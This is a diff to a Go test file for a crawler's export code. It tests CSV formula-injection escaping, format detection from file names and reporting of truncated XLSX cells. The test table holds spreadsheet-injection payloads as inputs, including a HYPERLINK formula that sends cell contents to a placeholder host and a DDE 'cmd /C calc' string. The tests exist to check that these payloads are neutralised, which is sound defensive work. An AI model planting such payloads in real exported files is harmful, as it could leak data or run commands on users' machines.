@@ -20,6 +20,7 @@ import (
 	"github.com/google/go-cmp/cmp"
 
 	"github.com/hadal-crawler/hadal/extract"
+	"github.com/hadal-crawler/hadal/internal/visible"
 	"github.com/hadal-crawler/hadal/storage"
 	"github.com/hadal-crawler/hadal/storage/export"
 )
@@ -109,6 +110,68 @@ func TestCSVReadsBack(t *testing.T) {
 	bad := write(t, export.CSV, []storage.Record{{Title: "a\xffb"}})
 	if !strings.Contains(bad, "a\uFFFDb") {
 		t.Errorf("invalid UTF-8 passes: %q", bad)
+	}
+}
+
+// A spreadsheet computes nothing of what a site shows; numbers stay numbers.
+func TestSafeCSVComputesNothing(t *testing.T) {
+	for in, want := range map[string]string{
+		"=1+1": "'=1+1", "=HYPERLINK(\"http://x/?\"&A1)": "'=HYPERLINK(\"http://x/?\"&A1)", "@SUM(A1)": "'@SUM(A1)", "+cmd|' /C calc'!A0": "'+cmd|' /C calc'!A0",
+		"-2+3": "'-2+3", "-": "'-", "\t=1": "'\t=1", "\n=1": "'\n=1", "\x00=1": "'=1", "\u202e=1": "'=1", "＝1+1": "'＝1+1", "－2+3": "'－2+3", "-5 apples": "'-5 apples",
+		"-5": "-5", "+3.25": "+3.25", "-1,012.50": "-1,012.50", "-1 000": "-1 000", "-1'000": "-1'000", "-.5": "-.5", "1e-7": "1e-7", "-3e5": "-3e5", "-12 %": "-12 %",
+		"+49 30 1234": "+49 30 1234", "plain": "plain", "a=b": "a=b", "'quoted": "'quoted", "\u009bx": "x",
+	} {
+		for _, safe := range []bool{true, false} {
+			var b bytes.Buffer
+			r := storage.Record{Title: in, Text: "t", Fields: []extract.Field{{Name: "f", Value: "x"}}}
+			cols, err := export.Pick(export.Table([]storage.Column{{Field: "f", Heading: "=f"}}), []string{"title", "=f", "text"})
+			if err != nil {
+				t.Fatal(err)
+			}
+			if err := export.Write(context.Background(), &b, export.CSV, each([]storage.Record{r}), export.Options{Columns: cols, Safe: safe}); err != nil {
+				t.Fatal(err)
+			}
+			rows, err := csv.NewReader(&b).ReadAll()
+			if err != nil || len(rows) != 2 {
+				t.Fatalf("%q: %v, %v", in, rows, err)
+			}
+			expected, heading := want, "'=f"
+			if !safe {
+				expected, heading = visible.Without(in), "=f"
+			}
+			if rows[1][0] != expected || rows[0][1] != heading {
+				t.Errorf("%q, safe %v: %q under %q, want %q", in, safe, rows[1][0], rows[0], expected)
+			}
+		}
+	}
+}
+
+func TestNamesOfFilesSayTheirFormat(t *testing.T) {
+	for name, want := range map[string]export.Format{
+		"a.csv": export.CSV, "x/A.CSV": export.CSV, "a.jsonl": export.JSONL, "a.ndjson": export.JSONL, "a.parquet": export.Parquet, "b.c.xlsx": export.XLSX,
+		"a.warc": export.WARC, "a.warc.gz": export.WARC, "a": "", "/dev/stdout": "", "dir.d/a": "", ".hidden": "",
+	} {
+		if got, err := export.FormatOf(name); got != want || err != nil {
+			t.Errorf("%s: %q, %v, want %q", name, got, err, want)
+		}
+	}
+	for name, want := range map[string]string{"a.json": ".jsonl", "a.csv.gz": "compressor", "a.zip": "compressor", "a.txt": "no format has the ending .txt", "a.xls": ".xls", "a.2026": ".2026"} {
+		if got, err := export.FormatOf(name); err == nil || !strings.Contains(err.Error(), want) {
+			t.Errorf("%s: %q, %v, want an error with %s", name, got, err, want)
+		}
+	}
+}
+
+func TestCutCellsAreTold(t *testing.T) {
+	long := strings.Repeat("x", 40_000)
+	records := []storage.Record{{Title: "short", Text: long}, {Title: long, Text: long}, {Title: "𝄞" + strings.Repeat("y", 32_765)}}
+	cut := map[string]int{}
+	o := export.Options{Columns: export.Table(nil), Cut: func(column string) { cut[column]++ }}
+	if err := export.Write(context.Background(), io.Discard, export.XLSX, each(records), o); err != nil {
+		t.Fatal(err)
+	}
+	if d := cmp.Diff(map[string]int{"text": 2, "title": 1}, cut); d != "" {
+		t.Errorf("cut cells (-want +told):\n%s", d)
 	}
 }
 
@@ -233,7 +296,7 @@ func FuzzFormats(f *testing.F) {
 			t.Fatalf("%d rows: %v", len(rows), err)
 		}
 		// The reader turns \r\n inside quotes into \n.
-		want := strings.ReplaceAll(valid(text, "\uFFFD"), "\r\n", "\n")
+		want := strings.ReplaceAll(visible.Without(valid(text, "\uFFFD")), "\r\n", "\n")
 		if got := rows[1][3]; got != want {
 			t.Errorf("title %q comes back as %q", want, got)
 		}
